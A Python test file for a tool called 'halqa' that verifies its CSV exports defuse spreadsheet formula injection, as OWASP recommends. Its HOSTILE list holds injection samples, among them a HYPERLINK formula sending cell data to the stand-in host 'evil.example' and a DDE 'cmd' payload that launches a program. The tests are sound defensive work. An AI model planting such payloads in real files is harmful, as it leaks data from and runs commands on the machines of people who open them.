"""CSV formula injection (issue 11 item 7): every CSV halqa writes for people defuses formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from halqa.audience import write_table
from halqa.catalog import Store
from halqa.catalog.csvsafe import TRIGGERS, escape_cell, sql_safe, write_csv
from halqa.ingest import ingest_files
from tests.service.world import build_world

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
HARMLESS = ["ⵜⵉⵣⵉ ⵏ ⵓⵙⵙⴰⵏ", "الزين اللي فيك", "Les Chevaux de Dieu", 'say "hi"', "a=b", ""]


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def _assert_safe(path: Path) -> None:
    """No cell of ``path`` would be evaluated by a spreadsheet, and every field is quoted."""
    text = path.read_bytes().decode("utf-8")
    for row in _cells(path):
        for cell in row:
            assert not cell.startswith(TRIGGERS) or _is_number(cell), (cell, path)
    for record in text.split(
        "\n"
    ):  # every record's first field is quoted (no cell here holds a newline)
        assert not record or record.startswith('"'), record


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_escape_cell_follows_owasp() -> None:
    assert [escape_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [escape_cell(v) for v in HARMLESS] == HARMLESS  # Arabic and Tifinagh stay byte-exact
    assert escape_cell(-0.5) == -0.5 and escape_cell(None) is None


def test_write_csv_quotes_everything_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"name": HOSTILE + HARMLESS, "score": [-0.5] * 13, "rank": list(range(13))}
    )
    path = write_csv(frame, tmp_path / "out.csv")
    _assert_safe(path)
    back = pd.read_csv(path, keep_default_na=False)
    assert back["name"].tolist() == ["'" + v for v in HOSTILE] + HARMLESS
    assert back["score"].tolist() == [-0.5] * 13 and back["rank"].tolist() == list(range(13))


def test_sql_safe_escapes_inside_duckdb_copy(tmp_path: Path) -> None:
    with Store.open(":memory:") as store:
        store.con.execute("CREATE TABLE t (name VARCHAR)")
        store.con.executemany("INSERT INTO t VALUES (?)", [[v] for v in HOSTILE + HARMLESS])
        path = tmp_path / "copy.csv"
        store.run(f"COPY (SELECT {sql_safe('name')} FROM t) TO '{path}' (HEADER, FORCE_QUOTE *)")
    _assert_safe(path)
    assert [r[0] for r in _cells(path)[1:]] == ["'" + v for v in HOSTILE] + HARMLESS


def test_audience_files_are_safe(tmp_path: Path) -> None:
    """`halqa audience target --out`, `halqa audience lookalike --out` and `halqa audience export --out` all write through it."""
    audience = pd.DataFrame(
        {
            "member_id": ["=cmd|' /C calc'!A0", "m001"],
            "score": [0.9, -0.1],
            "reasons": ["@follows x", "watches drama"],
        }
    )
    _assert_safe(write_table(audience, tmp_path / "audience.csv"))


def test_an_audience_file_halqa_wrote_reads_back_with_its_ids(tmp_path: Path) -> None:
    """Found by scripts/hardening_recheck.py: `halqa audience export` fed the file `halqa audience target --out`
    wrote dropped members whose ids look like formulas (it read the defused '=... as an unknown id)."""
    from halqa.audience.export import read_member_list

    ids = [HOSTILE[0], HOSTILE[1], "m001", "'quoted-id", "ⵎ-2"]
    written = write_table(
        pd.DataFrame({"member_id": ids, "score": [0.9, 0.8, 0.7, 0.6, 0.5]}),
        tmp_path / "audience.csv",
    )
    _assert_safe(written)
    assert list(read_member_list(written)["member_id"]) == ids


def _world(tmp_path: Path) -> Path:
    db = tmp_path / "csv.duckdb"
    with Store.open(db) as store:
        build_world(store)
        # Ids come from the user's files too: one that a spreadsheet would run.
        for table in ("titles", "events"):
            store.run(f"UPDATE {table} SET title_id = ? WHERE title_id = 't-ar-1'", [HOSTILE[3]])
    return db


def test_quarantine_file_is_safe(tmp_path: Path) -> None:
    db = _world(tmp_path)
    events = tmp_path / "plays.csv"
    events.write_text(
        "member_id,title_id,event_type,ts\n"
        f'"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",{HOSTILE[3]},play,2026-10-01T10:00:00\n'
        f"m001,{HOSTILE[3]},play,2026-10-01T10:00:00\n",
        encoding="utf-8",
    )
    with Store.open(db) as store:
        report = ingest_files(store, "events", [events], quarantine_dir=tmp_path / "q")
    written = list((tmp_path / "q").glob("*.csv"))
    assert report.files[0].rejected == 1 and len(written) == 1
    _assert_safe(written[0])
    assert HOSTILE[0] in "".join(
        cell for row in _cells(written[0]) for cell in row
    )  # kept, as text


def test_recommend_all_out_is_safe(tmp_path: Path) -> None:
    db = _world(tmp_path)
    env = {**os.environ, "COLUMNS": "200"}
    for args in (
        ["train", "--model", "popular"],
        ["recommend", "--all", "-k", "30", "--out", str(tmp_path / "r.csv")],
    ):
        run = subprocess.run(
            [sys.executable, "-m", "halqa.cli.main", *args, "--db", str(db), "--json"],
            check=False,
            capture_output=True,
            text=True,
            timeout=300,
            env=env,
        )
        assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout)["rows"] > 0
    _assert_safe(tmp_path / "r.csv")
    assert any(cell == "'" + HOSTILE[3] for row in _cells(tmp_path / "r.csv") for cell in row)


@pytest.mark.parametrize("value", HOSTILE)
def test_every_trigger_is_defused(value: str) -> None:
    assert escape_cell(value).startswith("'")
